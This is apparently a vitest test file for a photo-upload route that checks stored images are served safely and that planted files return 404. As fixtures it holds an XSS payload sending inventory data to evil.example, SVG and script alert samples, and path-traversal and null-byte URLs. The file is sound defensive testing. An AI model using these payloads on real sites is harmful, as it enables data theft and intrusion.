import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { buildTestApp, tempDataDir } from './helpers.ts';

// Issue 27 point 2: no file in DATA_DIR/uploads is served so that a browser could run it.

const PASSWORD = 'turtle power 1990';

async function appWithUploads(options: Parameters<typeof buildTestApp>[0] = {}) {
  const built = await buildTestApp(options);
  const dir = path.join(built.dataDir, 'uploads');
  fs.mkdirSync(dir, { recursive: true });
  const put = (name: string, bytes: Buffer | string) => fs.writeFileSync(path.join(dir, name), bytes);
  return { ...built, dir, put };
}

/** A photo as the store keeps it: a JPEG named by the SHA-256 of its bytes. */
async function storedPhoto(put: (name: string, bytes: Buffer) => void): Promise<{ name: string; bytes: Buffer }> {
  const bytes = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#336699' } }).jpeg().toBuffer();
  const name = `${createHash('sha256').update(bytes).digest('hex')}.jpg`;
  put(name, bytes);
  return { name, bytes };
}

const SCRIPT = '<script>fetch("/api/inventory").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t))</script>';

describe('the stored photos (/uploads/<name>)', () => {
  it('serves a stored photo as a JPEG that cannot run, cached for good, with ETag, ranges and HEAD', async () => {
    const { app, put } = await appWithUploads();
    const { name, bytes } = await storedPhoto(put);

    const res = await app.inject(`/uploads/${name}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/jpeg');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toBe('sandbox');
    expect(res.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(res.headers['content-length']).toBe(String(bytes.length));
    expect(res.rawPayload.equals(bytes)).toBe(true);

    const etag = res.headers.etag as string;
    expect(etag).toBeTruthy();
    const again = await app.inject({ url: `/uploads/${name}`, headers: { 'if-none-match': etag } });
    expect(again.statusCode).toBe(304);
    expect(again.rawPayload).toHaveLength(0);

    const part = await app.inject({ url: `/uploads/${name}`, headers: { range: 'bytes=0-9' } });
    expect(part.statusCode).toBe(206);
    expect(part.headers['content-range']).toBe(`bytes 0-9/${bytes.length}`);
    expect(part.rawPayload.equals(bytes.subarray(0, 10))).toBe(true);

    const head = await app.inject({ method: 'HEAD', url: `/uploads/${name}` });
    expect(head.statusCode).toBe(200);
    expect(head.headers['content-type']).toBe('image/jpeg');
    expect(head.headers['content-security-policy']).toBe('sandbox');
    expect(head.rawPayload).toHaveLength(0);
  });

  it('answers 404 for any file a hostile backup could have put there, whatever its name, even with the web app built', async () => {
    const webDist = tempDataDir();
    fs.writeFileSync(path.join(webDist, 'index.html'), '<!doctype html><title>app</title><div id="root"></div>');
    const { app, dir, put } = await appWithUploads({ webDist });
    const { name } = await storedPhoto(put);
    const hash = name.slice(0, 64);
    put('x.html', SCRIPT);
    put('x.js', 'alert(document.cookie)');
    put('x.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">${SCRIPT}</svg>`);
    put('x.jpg', SCRIPT);
    put(`${hash}.html`, SCRIPT);
    put(`${hash.toUpperCase()}.jpg`, SCRIPT);
    put(`${hash}.JPG`, SCRIPT);
    put(`.${name}.1234.tmp`, SCRIPT);
    put(`.${name}`, SCRIPT);
    put('noextension', SCRIPT);
    fs.mkdirSync(path.join(dir, 'sub'));
    fs.writeFileSync(path.join(dir, 'sub', name), SCRIPT);
    fs.writeFileSync(path.join(path.dirname(dir), 'secret.jpg'), SCRIPT);

    const missing = `${'0'.repeat(64)}.jpg`;
    const addresses = [
      'x.html', 'x.js', 'x.svg', 'x.jpg', `${hash}.html`, `${hash.toUpperCase()}.jpg`, `${hash}.JPG`, `.${name}.1234.tmp`, `.${name}`, 'noextension',
      `sub/${name}`, `sub%2F${name}`, '../secret.jpg', '..%2Fsecret.jpg', '%2e%2e%2fsecret.jpg', `${name}%00.html`, `${name}/`, '', missing,
    ].map((name) => `/uploads/${name}`);
    for (const url of addresses) {
      for (const method of ['GET', 'HEAD'] as const) {
        const res = await app.inject({ method, url });
        expect(res.statusCode, `${method} ${url}`).toBe(404);
        expect(res.headers['content-type'], `${method} ${url}`).toMatch(/^application\/json/);
        if (method === 'GET') expect(res.json(), url).toEqual({ error: expect.stringMatching(/^Not found: GET \//) });
        expect(res.body, url).not.toContain('<script>');
      }
    }
  });

  it('keeps the photos behind the login', async () => {
    const { app, put } = await appWithUploads({ access: { password: PASSWORD, sessionSecret: 's'.repeat(32) } });
    const { name } = await storedPhoto(put);
    for (const url of [`/uploads/${name}`, '/uploads/x.html']) {
      const res = await app.inject(url);
      expect(res.statusCode, url).toBe(401);
      expect(res.json()).toEqual({ error: 'Log in first' });
    }
  });
});
